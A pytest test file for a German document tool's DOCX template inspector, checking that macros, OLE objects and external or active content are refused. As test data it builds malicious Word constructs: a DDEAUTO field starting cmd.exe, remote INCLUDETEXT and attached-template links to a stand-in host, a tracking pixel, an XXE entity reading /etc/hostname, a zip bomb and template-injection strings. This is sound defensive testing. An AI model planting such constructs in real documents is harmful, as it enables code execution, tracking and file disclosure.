"""One DOCX inspector (#28, point 2): every variant of active or external content in a
DOCX template is refused by ``vorlage prüfen`` and by the build, with the same message
naming the part; a DOCTYPE or a ``.docm`` content type is a German error, no traceback.

Each variant is written into the XML of a copy of the shipped agreement template, as an
office's template would carry it (the packages are edited as zip files: python-docx
would normalise exactly the quoting and prefixes under test).
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from kimdocs.templating.environment import SHIPPED_DIR
from kimdocs.word.inspect import inspect_docx
from tests.conftest import BASIC_RELEASE_DOCX, docx_written

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
BODY_END = "<w:sectPr "


def _run(instr: str, tag: str = "w:instrText") -> str:
    return f'<w:r><{tag} xml:space="preserve">{instr}</{tag}></w:r>'


def _field(*instructions: str, tag: str = "w:instrText") -> str:
    """A complex field whose instruction is split over one run per part."""
    runs = "".join(_run(i, tag) for i in instructions)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _png_header(width: int, height: int) -> bytes:
    """A PNG that says it is width × height (the header is all a reader looks at first)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IEND", b"")


Edit = dict[str, Callable[[str], str] | bytes | str]


def _in_body(xml: str) -> Callable[[str], str]:
    return lambda doc: doc.replace(BODY_END, xml + BODY_END, 1)


def _rel(rid: str, kind: str, target: str, external: bool = True, quote: str = '"') -> str:
    mode = f" TargetMode={quote}External{quote}" if external else ""
    q = quote
    return f"<Relationship Id={q}{rid}{q} Type={q}{R}/{kind}{q} Target={q}{target}{q}{mode}/>"


def _add_rel(xml: str) -> Callable[[str], str]:
    return lambda rels: rels.replace("</Relationships>", xml + "</Relationships>")


def _content_type(xml: str) -> Callable[[str], str]:
    return lambda types: types.replace("</Types>", xml + "</Types>")


DOCUMENT_RELS = "word/_rels/document.xml.rels"
OLE = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    'Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" '
    f'r:id="rId90" xmlns:r="{R}"/></w:object></w:r></w:p>'
)

# name -> (edits of the package, what the message must say)
VARIANTS: dict[str, tuple[Edit, str]] = {
    "INCLUDETEXT über zwei Läufe": (
        {"word/document.xml": _in_body(_field(" INCLU", 'DETEXT "http://x.example/a.docx" '))},
        "ein Feld INCLUDETEXT (lädt Text von außen) „http://x.example/a.docx“ "
        "(in word/document.xml)",
    ),
    "includetext klein": (
        {"word/document.xml": _in_body(_field(' includetext "c:\\\\geheim.docx"'))},
        "ein Feld INCLUDETEXT",
    ),
    "INCLUDETEXT gelöscht (Änderungsverfolgung)": (
        {"word/document.xml": _in_body(_field(' INCLUDETEXT "x"', tag="w:delInstrText"))},
        "ein Feld INCLUDETEXT",
    ),
    "&#73;NCLUDEPICTURE": (
        {"word/document.xml": _in_body(_field(' &#73;NCLUDEPICTURE "http://x.example/p.png"'))},
        "ein Feld INCLUDEPICTURE (lädt ein Bild von außen) „http://x.example/p.png“",
    ),
    "DDEAUTO in fldSimple": (
        {
            "word/document.xml": _in_body(
                "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
                '"/k calc" \'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
            )
        },
        "ein Feld DDEAUTO (startet ein anderes Programm)",
    ),
    "DDE mit Namensraum-Präfix": (
        {
            "word/document.xml": _in_body(
                '<w:p><x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/'
                '2006/main" x:instr=" dde notepad x "/></w:p>'
            )
        },
        "ein Feld DDE (startet ein anderes Programm)",
    ),
    "Feldname aus einem Feld": (
        {
            "word/document.xml": _in_body(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                + _field(' QUOTE "INCLUDETEXT"').removeprefix("<w:p>").removesuffix("</w:p>")
                + _run(' "http://x.example/" ')
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            )
        },
        "ein Feld, dessen Art ein anderes Feld berechnet",
    ),
    "Feldanweisung aus einem Platzhalter": (
        {"word/document.xml": _in_body(_field(" {{ 'INCLUDE' }}TEXT \"http://x.example/\" "))},
        "eine Feldanweisung mit einem Platzhalter",
    ),
    "HYPERLINK auf eine Datei": (
        {"word/document.xml": _in_body(_field(' HYPERLINK "file:///c:/windows/calc.exe" '))},
        "ein Feld HYPERLINK „file:///c:/windows/calc.exe“",
    ),
    "altChunk": (
        {
            "word/document.xml": _in_body(f'<w:altChunk xmlns:r="{R}" r:id="rId90"/>'),
            DOCUMENT_RELS: _add_rel(_rel("rId90", "aFChunk", "/word/fremd.html", False)),
            "word/fremd.html": (
                '<html><body><img src="http://x.example/p.png">Nur im DOCX</body></html>'
            ),
            "[Content_Types].xml": _content_type(
                '<Override PartName="/word/fremd.html" ContentType="application/xhtml+xml"/>'
            ),
        },
        "einen eingebetteten fremden Inhalt (altChunk)",
    ),
    "OLE-Objekt": (
        {
            "word/document.xml": _in_body(OLE),
            DOCUMENT_RELS: _add_rel(_rel("rId90", "oleObject", "embeddings/oleObject1.bin", False)),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60,
        },
        "ein OLE-Objekt",
    ),
    "vbaProject.bin": (
        {
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60,
            DOCUMENT_RELS: _add_rel(
                '<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="vbaProject.bin"/>'
            ),
        },
        "Makros",
    ),
    ".docm-Inhaltstyp": (
        {
            "[Content_Types].xml": lambda t: t.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
        "Makros oder eingebettete Objekte (application/vnd.ms-word.document.macroenabled",
    ),
    "Bild mit 7000 × 7000 Punkten": (
        {
            "word/media/gross.png": _png_header(7000, 7000),
            "[Content_Types].xml": _content_type(
                '<Default Extension="png" ContentType="image/png"/>'
            ),
        },
        "ein Bild mit zu vielen Bildpunkten (7000 × 7000, höchstens 40 Millionen)",
    ),
    "Bild mit 30000 × 30000 Punkten": (
        {
            "word/media/riesig.png": _png_header(30000, 30000),
            "[Content_Types].xml": _content_type(
                '<Default Extension="png" ContentType="image/png"/>'
            ),
        },
        "ein Bild mit zu vielen Bildpunkten (höchstens 40 Millionen) (in word/media/riesig.png)",
    ),
    "Beziehung in einfachen Anführungszeichen": (
        {DOCUMENT_RELS: _add_rel(_rel("rId92", "image", "http://x.example/p.png", quote="'"))},
        "ein verknüpftes Bild „http://x.example/p.png“ (in word/_rels/document.xml.rels)",
    ),
    "Beziehung mit Präfix": (
        {
            DOCUMENT_RELS: _add_rel(
                f'<pr:Relationship xmlns:pr="{PKG}" Id="rId93" Type="{R}/image" '
                'Target="\\\\server\\freigabe\\bild.png" TargetMode="External"/>'
            )
        },
        "ein verknüpftes Bild „\\\\server\\freigabe\\bild.png“",
    ),
    "Beziehung in der Kopfzeile": (
        {
            "word/_rels/header1.xml.rels": (
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">'
                + _rel("rId1", "image", "https://x.example/zaehlpixel.gif")
                + "</Relationships>"
            )
        },
        "ein verknüpftes Bild „https://x.example/zaehlpixel.gif“ (in word/_rels/header1.xml.rels)",
    ),
    "Beziehung in customXml": (
        {
            "customXml/_rels/item1.xml.rels": _add_rel(
                _rel("rId2", "hyperlink", "file:///etc/passwd")
            )
        },
        "einen Link „file:///etc/passwd“ (in customXml/_rels/item1.xml.rels)",
    ),
    "angehängte Vorlage": (
        {
            "word/_rels/settings.xml.rels": (
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">'
                + _rel("rId1", "attachedTemplate", "https://x.example/amt.dotm")
                + "</Relationships>"
            )
        },
        "eine angehängte Dokumentvorlage „https://x.example/amt.dotm“",
    ),
    "VML-Bild mit Quelle": (
        {
            "word/document.xml": _in_body(
                '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
                '<v:imagedata src="\\\\server\\x.png"/></v:shape></w:pict></w:r></w:p>'
            )
        },
        "eine Datei oder Adresse, die Word lädt „\\\\server\\x.png“",
    ),
    "Seriendruck": (
        {
            "word/settings.xml": lambda s: s.replace(
                "</w:settings>",
                '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString '
                'w:val="Provider=x"/><w:query w:val="SELECT * FROM x"/></w:mailMerge></w:settings>',
            )
        },
        "eine Seriendruck-Datenquelle",
    ),
    "DOCTYPE mit Entität": (
        {
            "word/document.xml": lambda d: d.replace(
                "?>",
                '?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/hostname">'
                '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
                1,
            ).replace("Unterschrift Klientin", "&x;&b; Unterschrift Klientin", 1)
        },
        "eine DOCTYPE-Angabe",
    ),
}


def _write_variant(basic: Path, edits: Edit) -> Path:
    target = basic / "templates" / "agreement.docx"
    target.parent.mkdir(exist_ok=True)
    with zipfile.ZipFile(SHIPPED_DIR / "agreement.docx") as source:
        parts = {name: source.read(name) for name in source.namelist()}
    for name, edit in edits.items():
        if callable(edit):
            parts[name] = edit(parts[name].decode("utf-8")).encode("utf-8")
        else:
            parts[name] = edit if isinstance(edit, bytes) else edit.encode("utf-8")
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return target


def _refusals(output: str) -> list[str]:
    return sorted(ln for ln in output.splitlines() if "Die Vorlage enthält" in ln)


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_check_and_build_refuse_each_variant_alike(
    basic: Path, cli: Callable[..., Result], variant: str
) -> None:
    edits, expected = VARIANTS[variant]
    template = _write_variant(basic, edits)
    assert [f for f in inspect_docx(template) if expected in f.message], inspect_docx(template)
    checked = cli(basic, "vorlage", "prüfen", "templates/agreement.docx")
    built = cli(basic, "build", "-f", "docx")
    for result in (checked, built):
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output and "Unerwarteter Fehler" not in result.output
    refused = _refusals(checked.output)
    assert refused and any(expected in line for line in refused), checked.output
    assert all(line.startswith("templates/agreement.docx: Fehler: ") for line in refused)
    assert _refusals(built.output) == refused  # the same messages, word for word
    assert docx_written(basic) == [BASIC_RELEASE_DOCX]  # none of the agreement


def test_the_shipped_templates_pass() -> None:
    for template in sorted(SHIPPED_DIR.glob("*.docx")):
        assert inspect_docx(template) == [], template


def test_harmless_fields_and_links_pass(basic: Path, cli: Callable[..., Result]) -> None:
    """Page numbers, internal jumps and web links are what templates have."""
    body = (
        _field(" PAGE ")
        + _field(' HYPERLINK \\l "anfang" ')
        + _field(' HYPERLINK "https://www.example.org/" \\o "Tipp" ')
        + '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>'
    )
    _write_variant(
        basic,
        {
            "word/document.xml": _in_body(body),
            DOCUMENT_RELS: _add_rel(_rel("rId94", "hyperlink", "mailto:kim@kreis.example")),
        },
    )
    checked = cli(basic, "vorlage", "prüfen", "templates/agreement.docx")
    assert checked.exit_code == 0, checked.output
    built = cli(basic, "build", "-f", "docx")
    assert built.exit_code == 0, built.output


def test_a_package_that_unpacks_to_gigabytes_is_refused(tmp_path: Path) -> None:
    bomb = tmp_path / "bombe.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("[Content_Types].xml", "<Types/>")
        with out.open("word/media/leer.bin", "w", force_zip64=True) as part:
            block = b"\0" * (1024 * 1024)
            for _ in range(300):
                part.write(block)
    [finding] = inspect_docx(bomb)
    assert finding.fatal and "entpackt 300 MB" in finding.message


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '{{ \'</w:t></w:r><w:r><w:instrText>INCLUDETEXT "http://x.example/"</w:instrText>'
            "</w:r><w:r><w:t>' | safe }}",
            "Die Vorlage schaltet das Maskieren aus (|safe).",
        ),
        (
            "{% autoescape false %}{{ '</w:t></w:r><w:altChunk r:id=\"rId3\"/><w:r><w:t>' }}"
            "{% endautoescape %}",
            "Die Vorlage schaltet das Maskieren aus ({% autoescape %}).",
        ),
        ("{% filter safe %}<w:altChunk/>{% endfilter %}", "(|safe)"),
        ("{{ doc.title | keinfilter }}", "Einen Filter „keinfilter“ gibt es nicht."),
    ],
)
def test_word_xml_cannot_be_written_from_text(
    basic: Path, cli: Callable[..., Result], text: str, expected: str
) -> None:
    """Unescaped text in a DOCX template is Word's markup: a field or an altChunk that the
    package inspector would not see in the template. The check and the build refuse it
    alike."""
    from docx import Document

    doc = Document(str(SHIPPED_DIR / "agreement.docx"))
    doc.add_paragraph(text)
    target = basic / "templates" / "agreement.docx"
    target.parent.mkdir(exist_ok=True)
    doc.save(str(target))
    checked = cli(basic, "vorlage", "prüfen", "templates/agreement.docx")
    built = cli(basic, "build", "-f", "docx")
    for result in (checked, built):
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output
    lines = [ln for ln in checked.output.splitlines() if expected in ln]
    assert lines and all(ln in built.output for ln in lines), (checked.output, built.output)
    assert docx_written(basic) == [BASIC_RELEASE_DOCX]  # none of the agreement
